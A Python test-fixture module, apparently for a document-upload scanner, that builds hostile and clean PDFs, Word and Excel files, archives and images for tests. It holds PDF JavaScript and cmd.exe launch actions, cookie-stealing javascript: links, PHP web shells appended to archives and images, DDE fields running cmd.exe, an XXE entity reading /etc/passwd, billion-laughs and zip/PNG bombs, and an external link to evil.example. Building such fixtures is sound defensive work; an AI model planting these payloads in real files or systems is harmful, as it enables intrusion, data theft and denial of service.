"""Hostile (and clean) evidence files, built on the spot: PDFs with pypdf's writer, workbooks with
openpyxl, Word documents and archives with zipfile, images with Pillow."""

import io
import warnings
import zipfile

from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from tests.partners.helpers import DOCX_CONTENT_TYPES, DOCX_MAIN, docx_bytes, pdf_bytes

# The EICAR anti-virus test string: harmless, recognised by every scanner by agreement.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def name(value):
    return NameObject(value)


# --- PDF ------------------------------------------------------------------------------------


def _action(**entries):
    return DictionaryObject({name(f"/{k}"): v for k, v in entries.items()})


def _rect(size):
    return ArrayObject([NumberObject(0), NumberObject(0), NumberObject(size), NumberObject(size)])


def pdf_open_action_js():
    def build(writer):
        writer.root_object[name("/OpenAction")] = _action(
            S=name("/JavaScript"), JS=TextStringObject("app.alert('pwned')")
        )

    return pdf_bytes(build)


def pdf_orphan_js():
    """The script is in an object nothing refers to: pypdf's walk never meets it."""

    def build(writer):
        writer._add_object(_action(S=name("/JavaScript"), JS=TextStringObject("app.alert(1)")))

    return pdf_bytes(build)


def pdf_escaped_names_js():
    """``/Java#53cript`` is ``/JavaScript`` to every reader; a byte search does not see it."""
    data = pdf_open_action_js()
    return data.replace(b"/JavaScript", b"/Java#53cript").replace(b"/JS ", b"/J#53 ")


def pdf_names_tree_js():
    def build(writer):
        script = writer._add_object(
            _action(S=name("/JavaScript"), JS=TextStringObject("this.exportDataObject()"))
        )
        tree = DictionaryObject({name("/Names"): ArrayObject([TextStringObject("x"), script])})
        writer.root_object[name("/Names")] = DictionaryObject({name("/JavaScript"): tree})

    return pdf_bytes(build)


def pdf_page_additional_action_js():
    def build(writer):
        page = writer.pages[0]
        page[name("/AA")] = DictionaryObject(
            {name("/O"): _action(S=name("/JavaScript"), JS=TextStringObject("app.launchURL()"))}
        )

    return pdf_bytes(build)


def pdf_launch_action():
    def build(writer):
        writer.root_object[name("/OpenAction")] = _action(
            S=name("/Launch"), F=TextStringObject("cmd.exe")
        )

    return pdf_bytes(build)


def pdf_javascript_link():
    def build(writer):
        link = _action(
            Type=name("/Annot"),
            Subtype=name("/Link"),
            Rect=_rect(50),
            A=_action(S=name("/URI"), URI=TextStringObject("javascript:alert(document.cookie)")),
        )
        writer.pages[0][name("/Annots")] = ArrayObject([writer._add_object(link)])

    return pdf_bytes(build)


def pdf_with_web_link():
    """Clean: an ordinary https link annotation."""

    def build(writer):
        link = _action(
            Type=name("/Annot"),
            Subtype=name("/Link"),
            Rect=_rect(50),
            A=_action(S=name("/URI"), URI=TextStringObject("https://www.normeringarbeid.nl/")),
        )
        writer.pages[0][name("/Annots")] = ArrayObject([writer._add_object(link)])

    return pdf_bytes(build)


def pdf_embedded_exe():
    return pdf_bytes(lambda writer: writer.add_attachment("setup.exe", b"MZ\x90\x00" + b"\0" * 60))


def pdf_file_attachment_annotation():
    def build(writer):
        embedded = DecodedStreamObject()
        embedded.set_data(b"MZ\x90\x00payload")
        embedded[name("/Type")] = name("/EmbeddedFile")
        spec = _action(
            Type=name("/Filespec"),
            F=TextStringObject("invoice.exe"),
            EF=DictionaryObject({name("/F"): writer._add_object(embedded)}),
        )
        annotation = _action(
            Type=name("/Annot"),
            Subtype=name("/FileAttachment"),
            Rect=_rect(9),
            FS=spec,
        )
        writer.pages[0][name("/Annots")] = ArrayObject([writer._add_object(annotation)])

    return pdf_bytes(build)


def pdf_xfa_form():
    def build(writer):
        writer.root_object[name("/AcroForm")] = DictionaryObject(
            {name("/Fields"): ArrayObject(), name("/XFA"): TextStringObject("<xdp:xdp/>")}
        )

    return pdf_bytes(build)


def pdf_html_polyglot():
    """A PDF whose first kilobyte is also a web page (browsers sniff HTML there)."""
    data = pdf_bytes()
    header, rest = data.split(b"\n", 1)
    return header + b"\n%<html><body><script>alert(document.domain)</script></body></html>\n" + rest


def pdf_with_html_appended():
    return pdf_bytes() + b"\n<!DOCTYPE html><html><script>fetch('/x')</script></html>\n"


def pdf_with_zip_appended():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("shell.php", "<?php system($_GET['c']); ?>" * 100)
    return pdf_bytes() + buffer.getvalue()


def pdf_encrypted(user_password="geheim"):  # noqa: S107
    def build(writer):
        writer.encrypt(user_password=user_password, owner_password="eigenaar", algorithm="AES-128")

    return pdf_bytes(build)


def pdf_damaged():
    return b"%PDF-1.7\n1 0 obj <</Type/Catalog/Pages 9 0 R>>\nthis is not a pdf\n%%EOF\n"


def pdf_with_eicar():
    """Structurally clean; the EICAR string sits in the page's content stream."""

    def build(writer):
        content = DecodedStreamObject()
        content.set_data(b"BT /F1 12 Tf 10 10 Td (hallo) Tj ET\n% " + EICAR + b"\n")
        writer.pages[0][name("/Contents")] = writer._add_object(content)

    return pdf_bytes(build)


# --- Office Open XML ------------------------------------------------------------------------

DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
OLE_HEADER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
DOCUMENT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    "{relationships}</Relationships>"
)
REL_BASE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def relationship(kind, target, external=True, rid="rId9"):
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{REL_BASE}/{kind}" Target="{target}"{mode}/>'


def docx_with_relationships(*relationships):
    rels = DOCUMENT_RELS.format(relationships="".join(relationships))
    return docx_bytes(extra={"word/_rels/document.xml.rels": rels})


def docm_renamed_docx():
    """A macro-enabled Word document (.docm) saved under a .docx name."""
    types = DOCX_CONTENT_TYPES.format(main=DOCM_MAIN).replace(
        "</Types>",
        '<Override PartName="/word/vbaProject.bin" '
        'ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    vba = (
        '<Relationship Id="rId1" Target="vbaProject.bin" '
        'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"/>'
    )
    return docx_bytes(
        content_types=types,
        extra={
            "word/vbaProject.bin": OLE_HEADER,
            "word/_rels/document.xml.rels": DOCUMENT_RELS.format(relationships=vba),
        },
    )


def docx_with_vba_part_only():
    """The main part claims to be a plain document, but a VBA project travels along."""
    return docx_bytes(extra={"word/vbaProject.bin": OLE_HEADER})


DDE_PARAGRAPH = (
    "<w:p><w:fldSimple w:instr='DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"'>"
    "<w:r><w:t>!</w:t></w:r></w:fldSimple></w:p>"
)


def docx_dde_field():
    return docx_bytes(body=DDE_PARAGRAPH)


def docx_dde_part():
    """A header part with the DDE field, stored outside word/."""
    return (
        '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"{DDE_PARAGRAPH}</w:hdr>"
    )


def docx_split_dde_field():
    """The field code split over runs, as Word writes it."""
    body = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>'
        '<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\cmd.exe "/c calc"'
        "</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return docx_bytes(body=body)


def docx_page_field():
    """Clean: a PAGE field, the most ordinary field there is."""
    body = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return docx_bytes(body=body)


def docx_xxe():
    types = (
        '<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/word/document.xml" ContentType="{DOCX_MAIN}"/>'
        '<Default Extension="xml" ContentType="&xxe;"/></Types>'
    )
    return docx_bytes(content_types=types)


def docx_billion_laughs():
    entities = '<!ENTITY a0 "lol">' + "".join(
        f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10)
    )
    types = (
        f'<?xml version="1.0"?><!DOCTYPE Types [{entities}]>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/word/document.xml" ContentType="{DOCX_MAIN}"/>'
        '<Default Extension="xml" ContentType="&a9;"/></Types>'
    )
    return docx_bytes(content_types=types)


def docx_with_ole_object():
    return docx_bytes(extra={"word/embeddings/oleObject1.bin": OLE_HEADER})


def docx_with_activex():
    return docx_bytes(extra={"word/activeX/activeX1.xml": "<ax:ocx/>"})


def docx_duplicate_member():
    buffer = io.BytesIO(docx_bytes())
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile warns about the duplicate name
        with zipfile.ZipFile(buffer, "a") as archive:
            archive.writestr("word/document.xml", "<other/>")
    return buffer.getvalue()


def xlsx_bytes(fill=None) -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet["A1"] = "Werknemers"
    sheet["B1"] = 120
    if fill is not None:
        fill(workbook)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_with_formula(formula):
    def fill(workbook):
        workbook.active["C1"] = formula

    return xlsx_bytes(fill)


def xlsx_with_defined_name(formula):
    from openpyxl.workbook.defined_name import DefinedName

    def fill(workbook):
        workbook.defined_names["Koppeling"] = DefinedName("Koppeling", attr_text=formula)

    return xlsx_bytes(fill)


def _rewrite_zip(data: bytes, changes: dict) -> bytes:
    """Copy an archive, replacing or adding members (a value of None removes one)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename in changes:
                continue
            target.writestr(info.filename, source.read(info.filename))
        for member, content in changes.items():
            if content is not None:
                target.writestr(member, content)
    return buffer.getvalue()


def xlsx_with_sheet_elsewhere(formula):
    """The worksheet moved out of xl/worksheets/: Excel finds it by relationship and type."""
    data = xlsx_with_formula(formula)
    archive = zipfile.ZipFile(io.BytesIO(data))
    types = archive.read("[Content_Types].xml").decode()
    rels = archive.read("xl/_rels/workbook.xml.rels").decode()
    sheet = archive.read("xl/worksheets/sheet1.xml")
    return _rewrite_zip(
        data,
        {
            "xl/worksheets/sheet1.xml": None,
            "data/blad.xml": sheet,
            "[Content_Types].xml": types.replace("/xl/worksheets/sheet1.xml", "/data/blad.xml"),
            "xl/_rels/workbook.xml.rels": rels.replace(
                "/xl/worksheets/sheet1.xml", "/data/blad.xml"
            ).replace('"worksheets/sheet1.xml"', '"../data/blad.xml"'),
        },
    )


def xlsx_with_external_link():
    data = xlsx_bytes()
    rels = zipfile.ZipFile(io.BytesIO(data)).read("xl/_rels/workbook.xml.rels").decode()
    rels = rels.replace(
        "</Relationships>",
        relationship("externalLink", "externalLinks/externalLink1.xml", external=False)
        + "</Relationships>",
    )
    link_rels = DOCUMENT_RELS.format(
        relationships=relationship("externalLinkPath", "file:///\\\\evil.example\\share\\x.xlsx")
    )
    return _rewrite_zip(
        data,
        {
            "xl/_rels/workbook.xml.rels": rels,
            "xl/externalLinks/externalLink1.xml": "<externalLink/>",
            "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels,
        },
    )


def xlsx_named_docx():
    return xlsx_bytes()


def pptx_like():
    types = DOCX_CONTENT_TYPES.format(
        main="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    ).replace("/word/document.xml", "/ppt/presentation.xml")
    return docx_bytes(content_types=types, extra={"ppt/presentation.xml": "<p:presentation/>"})


def zip_bomb(uncompressed_bytes: int) -> bytes:
    """An archive named .xlsx whose one member unpacks to ``uncompressed_bytes`` of zeros."""
    buffer = io.BytesIO()
    block = b"\0" * (1024 * 1024)
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", DOCX_CONTENT_TYPES.format(main=DOCX_MAIN))
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            for _ in range(uncompressed_bytes // len(block)):
                member.write(block)
    return buffer.getvalue()


def many_entries(count: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", DOCX_CONTENT_TYPES.format(main=DOCX_MAIN))
        for index in range(count):
            archive.writestr(f"xl/{index}", b"")
    return buffer.getvalue()


# --- Images ---------------------------------------------------------------------------------

PHP_PAYLOAD = b"<?php system($_GET['cmd']); ?>"


def jpeg_with_gps_and_trailing_php() -> bytes:
    from PIL import Image

    image = Image.new("RGB", (32, 16), (200, 30, 30))
    exif = Image.Exif()
    exif[0x010F] = "Camera"  # Make
    exif.get_ifd(0x8825)[2] = (51.0, 55.0, 30.0)  # GPSLatitude: the office in Rotterdam
    buffer = io.BytesIO()
    image.save(buffer, format="JPEG", exif=exif.tobytes(), comment=b"<script>x</script>")
    return buffer.getvalue() + PHP_PAYLOAD


def png_with_text_payload() -> bytes:
    from PIL import Image, PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", PHP_PAYLOAD.decode())
    buffer = io.BytesIO()
    Image.new("RGBA", (8, 8), (0, 96, 143, 128)).save(buffer, format="PNG", pnginfo=info)
    return buffer.getvalue() + b"<html><script>alert(1)</script></html>"


def png_bomb() -> bytes:
    """42 megapixels of nothing: a few kilobytes on disk, 42 MB+ once decoded."""
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("1", (7000, 6000)).save(buffer, format="PNG")
    return buffer.getvalue()


def jpeg_truncated() -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (64, 64), (1, 2, 3)).save(buffer, format="JPEG")
    return buffer.getvalue()[:300]
